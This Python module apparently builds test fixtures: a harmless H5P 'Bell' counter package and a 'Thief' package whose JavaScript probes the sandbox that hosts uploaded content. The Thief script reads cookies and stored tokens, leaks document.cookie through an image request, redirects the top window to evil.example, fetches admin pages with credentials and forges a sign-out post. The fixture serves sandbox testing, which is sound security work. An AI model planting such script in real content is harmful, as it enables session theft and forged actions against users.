"""Two packages of our own that play: a bell that counts, scores and remembers, and a thief who tries every door."""

from __future__ import annotations

import json

from h5p_making import TEXT, archive, dependency, library_files

BELL = """
var H5P = H5P || {};
H5P.Bell = function (params, id, extras) {
  H5P.EventDispatcher.call(this);
  var self = this, before = (extras && extras.previousState) || {};
  this.rung = before.rung || 0;
  this.attach = function ($where) {
    var button = document.createElement("button");
    var say = function () { button.textContent = params.words + " " + self.rung; };
    button.className = "bell";
    button.onclick = function () {
      self.rung += 1;
      say();
      self.triggerXAPIScored(1, 1, "answered", true, true);
    };
    say();
    $where.append(button);
    self.trigger("resize");
  };
  this.getCurrentState = function () { return { rung: self.rung }; };
};
H5P.Bell.prototype = Object.create(H5P.EventDispatcher.prototype);
"""

THIEF = """
var H5P = H5P || {};
window.found = {};
(function () {
  function attempt(name, act) {
    try { window.found[name] = String(act()); } catch (error) { window.found[name] = "refused: " + error.name; }
  }
  attempt("origin", function () { return self.origin; });
  attempt("cookie", function () { return document.cookie; });
  attempt("set_cookie", function () { document.cookie = "thief=1"; return document.cookie; });
  attempt("storage", function () { return localStorage.getItem("token"); });
  attempt("session_storage", function () { return sessionStorage.getItem("token"); });
  attempt("databases", function () { return indexedDB.open("x") && "opened"; });
  attempt("parent", function () { return parent.document.title; });
  attempt("parent_cookie", function () { return parent.document.cookie; });
  attempt("top", function () { top.location = "https://evil.example/"; return "went"; });
  attempt("window", function () { return window.open("/me/"); });
  attempt("worker", function () { return typeof navigator.serviceWorker; });
  function read(address, how) {
    return fetch(address, how)
      .then(function (answer) { return answer.text(); })
      .catch(function () { return "refused"; });
  }
  var known = { credentials: "include" };
  window.waiting = Promise.all([
    read("/me/", known), read("/me/data/", known), read("/admin/", known), read("/static/core/baon.css"),
    read("/me/play/00000000-0000-0000-0000-000000000000/", { method: "POST", body: "{}", mode: "no-cors" }),
    read("https://evil.example/"),
    new Promise(function (done) {
      var image = new Image();
      image.onload = function () { done("loaded"); };
      image.onerror = function () { done("refused"); };
      image.src = "/leak.png?" + document.cookie;
    }),
    new Promise(function (done) {
      var form = document.createElement("form");
      form.action = "/sign-out/"; form.method = "post"; form.target = "_top";
      document.documentElement.append(form);
      try { form.submit(); } catch (error) { /* as it should be */ }
      setTimeout(function () { done("refused"); }, 500);
    }),
  ]);
})();
H5P.Thief = function () { this.attach = function ($where) { $where.text("Nothing to see here."); }; };
"""


def package(name: str, script: str, *, title: str, words: str = "Rung") -> bytes:
    """A package with one library, whose only script this is."""
    main = f"{name} 1.0"
    described = {
        "title": title, "language": "en", "mainLibrary": name, "embedTypes": ["iframe"], "license": "CC BY",
        "preloadedDependencies": [dependency(main)],
    }  # fmt: skip
    library = library_files(main, semantics=[{**TEXT, "name": "words", "label": "Words"}], license="MIT")
    files = {
        "h5p.json": json.dumps(described).encode(),
        "content/content.json": json.dumps({"words": words}).encode(),
        **library,
        f"{name}-1.0/js/main.js": script.encode(),
    }
    return archive(files).getvalue()
